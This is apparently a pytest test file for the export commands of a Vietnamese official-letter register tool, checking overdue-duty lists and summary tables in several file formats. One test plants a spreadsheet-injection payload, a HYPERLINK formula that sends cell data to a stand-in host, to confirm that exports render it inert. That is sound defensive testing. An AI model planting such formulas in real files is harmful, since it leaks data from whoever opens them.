"""Books, the overdue list and the summary as a clerk files them: the decree's columns, the register's figures."""

from __future__ import annotations

import csv
import os
import shutil
from collections import Counter
from datetime import date, datetime

import docx
import openpyxl
import pandas
import pypdfium2
import pytest
from letters import Letter

from pipeline.export.sheet import Group

BODY = [
    "Sở Khoa học Kỹ thuật đề nghị Ủy ban nhân dân các huyện:",
    "1. Gửi kế hoạch trồng cây về Sở trước ngày 20/4/2023.",
    "2. Định kỳ hằng quý gửi số liệu về Sở.",
    "3. Cử một cán bộ làm đầu mối.",
]
ARRIVALS = [
    "Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu văn bản", "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung văn bản", "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú",
]  # fmt: skip
HANDLING = [
    "Số đến", "Tên loại, số, ký hiệu, ngày, tháng và tên cơ quan, tổ chức ban hành văn bản", "Đơn vị hoặc người nhận",
    "Thời hạn giải quyết", "Tiến độ giải quyết", "Số, ký hiệu văn bản trả lời", "Ghi chú",
]  # fmt: skip
AS_OF = ("--as-of", "2023-07-10")


@pytest.fixture(autouse=True)
def letters(run, tmp_path, monkeypatch):
    """D1 of 05/3/2023 with a dated, a recurring and an undated duty; D2 of another year without any duty."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("CONGVAN_SETTINGS", raising=False)
    Letter(body=BODY).write(tmp_path / "inbox" / "a.txt")
    Letter(number="102/SKHKT-VP", year=2024, subject="mời họp giao ban quý", body=["Trân trọng kính mời./."]).write(
        tmp_path / "inbox" / "b.txt"
    )
    assert run("ingest", tmp_path / "inbox", "--workers", 0).code == 0


@pytest.fixture
def export(run, tmp_path):
    """`export("overdue")` runs the command into a new file and opens it: rows of values under the heading."""

    def done(name, *words, ending=".xlsx"):
        path = tmp_path / f"{name}{len(list(tmp_path.iterdir()))}{ending}"
        done.said = run("export", name, "--to", path, *words)
        assert done.said.code == 0, done.said.err
        done.path = path
        if ending == ".xlsx":
            done.page = openpyxl.load_workbook(path).active
            heading = int(done.page.freeze_panes[1:]) - 1
            done.heading = [cell.value for cell in done.page[heading]]
            return [[cell.value for cell in line] for line in done.page.iter_rows(min_row=heading + 1)]
        return None

    return done


def above(page):
    """The words over the table."""
    heading = int(page.freeze_panes[1:]) - 1
    return [cell.value for line in page.iter_rows(max_row=heading - 1) for cell in line if cell.value]


# ------------------------------------------------------------------------------------------------------ books


def test_the_book_of_arrivals_has_the_columns_of_the_decree(export, run):
    run("receive", "D1", "10/3/2023")
    rows = export("arrivals", "--year", 2023)
    number = int(export.page.freeze_panes[1:]) - 2
    assert [cell.value for cell in export.page[number]] == ARRIVALS
    assert export.heading == [f"({n})" for n in range(1, 11)]
    first = rows[0]
    assert first[:6] == [
        datetime(2023, 3, 10), 1, "Sở Khoa học Kỹ thuật", "101/SKHKT-VP", datetime(2023, 3, 5),
        "Công văn về việc rà soát danh mục thiết bị phòng thí nghiệm",
    ]  # fmt: skip
    assert first[6:9] == [None, None, None]  # known to nobody but the clerk
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in above(export.page) and "Năm 2023" in above(export.page)
    assert export.page.auto_filter.ref and export.page.cell(number + 2, 4).hyperlink.target.endswith("a.txt")


def test_numbers_of_arrival_begin_anew_each_year(export, run):
    run("receive", "D2", "2/4/2024")
    run("receive", "D1", "10/3/2023")
    rows = export("arrivals", "--as-of", "2024-12-31")
    assert [row[:2] for row in rows if row[0]] == [
        ["Năm 2023", None], [datetime(2023, 3, 10), 1], ["Năm 2024", None], [datetime(2024, 4, 2), 1],
    ]  # fmt: skip
    assert [row[1] for row in export("arrivals", "--as-of", "2024-12-31", "--year", 2024) if row[1]] == [1]
    assert not [row for row in export("arrivals", "--as-of", "2024-03-31") if row[4] == datetime(2024, 4, 2)]


def test_what_is_not_in_the_book_yet_stands_at_its_end(export, run):
    run("receive", "D1", "10/3/2023")
    rows = export("arrivals", "--as-of", "2024-12-31")
    assert [row[0] for row in rows if isinstance(row[0], str)] == ["Năm 2023", "Văn bản chưa vào sổ (chưa có số đến)"]
    assert rows[3][:4] == [None, None, "Sở Khoa học Kỹ thuật", "102/SKHKT-VP"]


def test_the_offices_own_letters_have_not_arrived(export, run, tmp_path):
    (tmp_path / "congvan.toml").write_text('[register]\nagency = "Sở Khoa học Kỹ thuật"\n')
    rows = export("arrivals")
    assert rows[0][0] == "(Không có)"
    assert "SỞ KHOA HỌC KỸ THUẬT" in above(export.page)


def test_filters_hold_for_letters_without_duties_too(export, run):
    rows = export("arrivals", "--issued-from", "2024-01-01")
    assert [row[3] for row in rows if row[3]] == ["102/SKHKT-VP"]
    assert [row[3] for row in export("arrivals", "--body", "các huyện") if row[3]] == ["101/SKHKT-VP"]
    assert not [row[3] for row in export("arrivals", "--issuer", "Bộ Y tế") if row[3]]


def test_the_book_of_handling_says_what_became_of_each_letter(export, run):
    run("receive", "D1", "10/3/2023")
    rows = export("handling", *AS_OF)
    assert [cell.value for cell in export.page[int(export.page.freeze_panes[1:]) - 2]] == HANDLING
    letter = rows[1]
    assert letter[0] == 1
    assert letter[1] == "Công văn số 101/SKHKT-VP ngày 05/3/2023 của Sở Khoa học Kỹ thuật"
    assert letter[3] == datetime(2023, 3, 31)
    assert letter[4] == "Hoàn thành 0/5 nhiệm vụ; quá hạn 3"
    assert "có nhiệm vụ định kỳ" in letter[6]
    (late,) = [one for one in run("overdue", *AS_OF, "--json").json() if "kế hoạch" in one["quote"]]
    run("done", late["duty"], "--on", "19/4/2023", "--proof", "12/BC-UBND")
    letter = export("handling", *AS_OF)[1]
    assert letter[4:6] == ["Hoàn thành 1/5 nhiệm vụ; quá hạn 2", "12/BC-UBND"]
    assert export("handling", "--as-of", "2023-04-18")[1][5] is None


def test_one_duty_is_told_in_words(export, run):
    def progress(*words):
        return [row[4] for row in export("handling", "--text", "kế hoạch", *words) if row[4]]

    assert progress(*AS_OF) == ["Chưa thực hiện, quá hạn 82 ngày"]
    assert progress(*AS_OF, "--policy", "lenient") == ["Chưa thực hiện, quá hạn 81 ngày"]
    (late,) = [one for one in run("overdue", *AS_OF, "--json").json() if "kế hoạch" in one["quote"]]
    run("done", late["duty"], "--on", "19/4/2023")
    assert progress(*AS_OF) == ["Hoàn thành, đúng hạn"]


def test_a_register_of_an_office_shows_what_that_office_owes(export, tmp_path):
    (tmp_path / "congvan.toml").write_text('[register]\nagency = "Sở Mây"\n')
    letters = [row for row in export("handling", *AS_OF) if row[1]]
    assert letters and not any(row[3] or row[4] for row in letters)


# --------------------------------------------------------------------------------------------- overdue, summary


def test_the_overdue_list_stands_under_the_names_of_bodies(export, run):
    rows = export("overdue", *AS_OF)
    assert rows[0][0] == "ỦY BAN NHÂN DÂN CÁC HUYỆN (2 nhiệm vụ)"
    dated = rows[1] if "kế hoạch" in rows[1][4] else rows[2]
    recurring = rows[2] if dated is rows[1] else rows[1]
    assert [row[0] for row in (rows[1], rows[2])] == [1, 2]
    assert dated[1:4] == ["101/SKHKT-VP", datetime(2023, 3, 5), "Sở Khoa học Kỹ thuật\nGIÁM ĐỐC Lý Hoài Thương"]
    assert dated[7:10] == [datetime(2023, 4, 20), "trước ngày 20/4/2023", 82]
    assert dated[10:] == ["Chưa thực hiện", None]
    assert "2 kỳ quá hạn, từ Quý I năm 2023 đến Quý II năm 2023" in recurring[4]
    assert "Tính đến ngày 10/07/2023: 2 nhiệm vụ của 1 cơ quan, đơn vị" in above(export.page)
    below = [row[0] for row in rows[3:] if row[0]]
    assert "có 3 nhiệm vụ quá hạn (như bảng tổng hợp)" in below[0]
    assert "quá hạn từ chính ngày D" in below[-1]


def test_on_paper_the_overdue_list_has_what_belongs_together_in_one_cell(export, run):
    export("overdue", *AS_OF, ending=".docx")
    table = docx.Document(export.path).tables[-2]
    rows = [[cell.text for cell in row.cells] for row in table.rows]
    assert rows[0] == [
        "STT", "Số, ký hiệu, ngày văn bản, người ký", "Cơ quan giao", "Nội dung nhiệm vụ được giao",
        "Đơn vị chủ trì, phối hợp", "Thời hạn", "Số ngày quá hạn", "Tình hình, nguyên nhân", "Đề xuất (gia hạn đến …)",
    ]  # fmt: skip
    assert set(rows[1]) == {"ỦY BAN NHÂN DÂN CÁC HUYỆN (2 nhiệm vụ)"}
    (dated,) = [row for row in rows if "kế hoạch" in row[3]]
    assert dated[1] == "Công văn số 101/SKHKT-VP\nngày 05/3/2023\nLý Hoài Thương"
    assert dated[2] == "Sở Khoa học Kỹ thuật"
    assert dated[5:8] == ["20/04/2023\ntrước ngày 20/4/2023", "82", "Chưa thực hiện"]


def test_a_number_that_is_left_open_is_dots_in_the_overdue_list(export, run, tmp_path):
    Letter(
        number="/SKHKT-VP", body=["Sở Khoa học Kỹ thuật đề nghị Sở Mây:", "1. Gửi kế hoạch trước ngày 21/4/2023."]
    ).write(tmp_path / "inbox" / "c.txt")
    run("ingest", tmp_path / "inbox", "--workers", 0)
    assert "…/SKHKT-VP" in [row[1] for row in export("overdue", *AS_OF)]
    export("overdue", *AS_OF, ending=".docx")
    cells = [row.cells[1].text for row in docx.Document(export.path).tables[-2].rows]
    assert [cell for cell in cells if cell.startswith("Công văn số ……/SKHKT-VP\n")]


def test_the_summary_of_several_bodies_is_drawn_too(export, run):
    for n in range(3):
        assert run("add", "D1", f"Gửi bản số {n}", "--lead", f"Sở thứ {n}").code == 0
    for one in run("tasks", "--json").json():
        if one["quote"].startswith("Gửi bản số"):
            assert run("add", one["id"], "trước ngày 08/4/2023", "--due", "2023-04-08").code == 0
    export("summary", *AS_OF)
    book = openpyxl.load_workbook(export.path)
    assert len(book["Biểu đồ"]._images) == 1
    export("summary", *AS_OF, ending=".docx")
    (picture,) = docx.Document(export.path).inline_shapes
    assert "nhiệm vụ quá hạn của 4 cơ quan" in picture._inline.docPr.get("descr")
    export("summary", *AS_OF, ending=".csv")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice prints PDF")
def test_a_machine_without_the_typeface_is_told_so(export, monkeypatch, tmp_path):
    programs = tmp_path / "programs"
    programs.mkdir()
    (programs / "fc-list").write_text("#!/bin/sh\necho DejaVu Sans\n")
    (programs / "fc-list").chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    export("summary", *AS_OF, ending=".pdf")
    assert "Times New Roman" in export.said.err
    export("summary", *AS_OF, ending=".docx")
    assert "Times New Roman" not in export.said.err


def test_what_happened_is_in_the_overdue_list(export, run):
    (late,) = [one for one in run("overdue", *AS_OF, "--json").json() if "kế hoạch" in one["quote"]]
    run("extend", late["duty"], "31/5/2023", "--on", "2023-04-10")
    (row,) = [row for row in export("overdue", *AS_OF) if "kế hoạch" in str(row[4])]
    assert (row[7], row[9]) == (datetime(2023, 5, 31), 40)
    assert row[10] == "Chưa thực hiện; gia hạn; hạn ban đầu 19/04/2023"


def test_nobodys_tasks_stand_last(export, run):
    run("add", "D2", "Chuẩn bị tài liệu họp")
    run("add", "O4", "trước ngày 08/4/2024", "--due", "2024-04-08", "--boundary", "before")
    groups = [row[0] for row in export("overdue", "--as-of", "2024-06-01") if isinstance(row[0], str)]
    assert groups[1] == "CHƯA RÕ ĐƠN VỊ CHỦ TRÌ (1 nhiệm vụ)"
    assert "; 1 nhiệm vụ chưa rõ đơn vị chủ trì" in " ".join(above(export.page))


def test_the_list_holds_what_the_command_counts(run, tmp_path):
    from pipeline.export.overdue import overdue
    from pipeline.followup.settings import Settings
    from pipeline.register import TaskFilter, open_register

    found = run("overdue", *AS_OF, "--json").json()
    with open_register(tmp_path / "register.db") as register:
        sheet = overdue(register, TaskFilter(), Settings(), as_of=date(2023, 7, 10))
        rows = [row for row in sheet.rows if not isinstance(row, Group)]
    assert len(rows) == len({(one["duty"].partition("@")[0]) for one in found})


def test_nothing_overdue_is_a_table_that_says_so(export):
    assert export("overdue", "--as-of", "2023-03-04")[0][0] == "(Không có)"
    assert export("summary", "--as-of", "2023-03-04")[0][0] == "(Không có)"


def test_the_summary_has_the_figures_of_the_scoreboard_and_prints_its_formula(export, run):
    run("done", "T1", "--on", "2023-05-01")
    rows = export("summary", *AS_OF)
    body, everything = run("scoreboard", *AS_OF, "--json").json()
    keys = ("total", "done_on_time", "done_late", "open_in_time", "overdue", "no_deadline", "suspended")
    assert rows[0][:9] == [1, body["body"], *(body[key] for key in keys)]
    assert rows[1][1] == "TỔNG CỘNG" and rows[1][2:9] == [everything[key] for key in keys]
    assert [round(value * 100, 2) for value in rows[1][9:11]] == [
        everything["done_of_due"],
        everything["overdue_of_due"],
    ]
    assert any("đã hoàn thành + chưa hoàn thành quá hạn" in str(row[0]) for row in rows[2:])


# ------------------------------------------------------------------------------------------------------ files


@pytest.mark.parametrize("name", ["arrivals", "handling", "overdue", "summary"])
def test_each_table_is_a_workbook_a_csv_and_a_paper(export, name):
    assert export(name, *AS_OF)
    export(name, *AS_OF, ending=".csv")
    rows = list(csv.reader(export.path.open(encoding="utf-8-sig", newline="")))
    assert len({len(row) for row in rows}) == 1 < len(rows)
    export(name, *AS_OF, ending=".docx")
    paper = docx.Document(export.path)
    assert len(paper.tables[-1 if name in ("arrivals", "handling") else -2].rows) > 2
    text = "\n".join(cell.text for table in paper.tables for row in table.rows for cell in row.cells)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    width, height = paper.sections[0].page_width.mm, paper.sections[0].page_height.mm
    assert (round(width), round(height)) == (297, 210)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice prints PDF")
def test_a_table_is_printed_as_pdf_on_a4(export):
    export("overdue", *AS_OF, ending=".pdf")
    pages = list(pypdfium2.PdfDocument(export.path))
    assert all([round(side) for side in page.get_size()] == [842, 595] for page in pages)
    words = " ".join(page.get_textpage().get_text_range() for page in pages)
    assert "101/SKHKT" in words and "20/04/2023" in words


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice opens workbooks")
def test_libreoffice_opens_the_workbook_as_it_is_meant(export, tmp_path):
    import subprocess

    export("overdue", *AS_OF)
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "pdf",
         "--outdir", str(tmp_path), str(export.path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    pages = pypdfium2.PdfDocument(export.path.with_suffix(".pdf"))
    assert len(pages) == 1 and [round(side) for side in pages[0].get_size()] == [842, 595]
    words = " ".join(pages[0].get_textpage().get_text_range().split())
    assert "101/SKHKT-VP" in words and "20/04/2023" in words


def test_a_task_that_looks_like_a_formula_is_inert_everywhere(export, run):
    words = '=HYPERLINK("http://x.example/?"&A1;"xem")'
    assert run("add", "D1", words, "--lead", "@SUM(A1)").code == 0
    assert run("add", "O4", "trước ngày 08/4/2023", "--due", "2023-04-08").code == 0
    export("overdue", *AS_OF)
    (cell,) = [cell for line in export.page.iter_rows() for cell in line if cell.value == words]
    assert cell.data_type != "f" and cell.quotePrefix
    assert words in list(pandas.read_excel(export.path, header=None).iloc[:, 4])
    export("overdue", *AS_OF, ending=".csv")
    cells = Counter(cell for row in csv.reader(export.path.open(encoding="utf-8-sig", newline="")) for cell in row)
    assert cells[f"'{words}"] == 1 and not any(cell.startswith(("=", "@")) for cell in cells)


def test_without_a_name_the_file_bears_the_day_and_is_not_written_over(run, tmp_path):
    done = run("export", "overdue", *AS_OF)
    path = tmp_path / "outputs" / "qua-han-2023-07-10.xlsx"
    assert done.code == 0 and done.out == ""
    assert "outputs/qua-han-2023-07-10.xlsx" in done.err and path.exists()
    before = path.read_bytes()
    again = run("export", "overdue", *AS_OF)
    assert again.code == 1 and "--force" in again.err and path.read_bytes() == before
    assert run("export", "overdue", *AS_OF, "--force").code == 0
    assert openpyxl.load_workbook(path)


def test_an_ending_that_is_no_form_is_refused_before_anything_is_done(run, tmp_path):
    done = run("export", "summary", "--to", tmp_path / "a.xls")
    assert done.code == 2 and ".xlsx" in done.err
    assert not (tmp_path / "a.xls").exists()


def test_papers_are_vietnamese_whatever_the_user_speaks(run, tmp_path):
    done = run("--lang", "en", "export", "summary", "--to", tmp_path / "a.xlsx", *AS_OF)
    assert "Written" in done.err
    page = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert any("TỔNG HỢP KẾT QUẢ" in words for words in above(page))


def test_a_register_without_anything_gives_empty_tables(run, tmp_path, monkeypatch):
    from pipeline.register import open_register

    monkeypatch.setenv("CONGVAN_REGISTER", str(tmp_path / "empty.db"))
    open_register(tmp_path / "empty.db", "create").close()
    for name in ("arrivals", "handling", "overdue", "summary"):
        done = run("export", name, "--to", tmp_path / f"{name}.xlsx")
        assert done.code == 0 and "0" in done.err
        page = openpyxl.load_workbook(tmp_path / f"{name}.xlsx").active
        assert any(cell.value == "(Không có)" for line in page.iter_rows() for cell in line)
